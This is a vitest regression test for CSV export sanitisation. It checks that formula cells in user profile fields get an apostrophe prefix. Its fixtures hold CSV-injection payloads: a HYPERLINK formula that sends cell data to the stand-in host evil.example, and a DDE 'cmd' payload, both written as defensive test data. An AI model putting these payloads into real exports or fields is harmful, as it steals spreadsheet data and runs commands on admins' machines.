import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { users } from '../../src/db/schema';
import { buildTestApp, type TestApp } from '../build-test-app';

/**
 * Review 18 (CSV exports). A member's own profile fields (real name, phone, e-mail, position —
 * set by themselves, by another tenant, or by a WeCom directory) end up in the tenant admin's
 * GET /sys/user/export. Cells starting with = + - @ are neutralised, but a formula behind a
 * leading space, a line feed or a double quote, or written with the full-width ＝ ＋ － ＠ that
 * Chinese input methods type, went out as is: spreadsheets that trim spaces on import
 * (LibreOffice "trim spaces", Google Sheets) or read full-width operators run it.
 *
 * Expected: every such cell reaches the file with a leading apostrophe.
 */
let t: TestApp;
beforeAll(async () => {
  t = await buildTestApp();
});
afterAll(() => t?.close());

/** The cells of a CSV file (RFC 4180), rows split on CRLF outside quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && ch === '"') {
      quoted = false;
    } else if (quoted) {
      cell += ch;
    } else if (ch === '"') {
      quoted = true;
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += ch;
    }
  }
  return rows;
}

it('prefixes formulas hidden behind a space, a line feed, a quote or written full-width', async () => {
  const c = await t.factories.tenant();
  const admin = await t.factories.user(c.id, { role: 'admin' });
  const victim = await t.factories.user(c.id);
  const fields = {
    realname: ' =HYPERLINK("http://evil.example/?"&A1,"点我")',
    phone: '"=1+1',
    email: "\n=cmd|' /C calc'!A0",
    position: '＝1+1',
  };
  await t.db.update(users).set(fields).where(eq(users.id, victim.id));

  const res = await t.call('GET', `/sys/user/export?keyword=${victim.username}`, undefined, {
    token: admin.token,
    tenantId: c.id,
  });
  expect(res.status).toBe(200);
  const [header, row] = parseCsv((res.body as { raw: string }).raw.replace(/^\uFEFF/, ''));
  const cellOf = (name: string) => row![header!.indexOf(name)];
  expect({
    realname: cellOf('realname'),
    phone: cellOf('phone'),
    email: cellOf('email'),
    position: cellOf('position'),
  }).toEqual({
    realname: `'${fields.realname}`,
    phone: `'${fields.phone}`,
    email: `'${fields.email}`,
    position: `'${fields.position}`,
  });
});
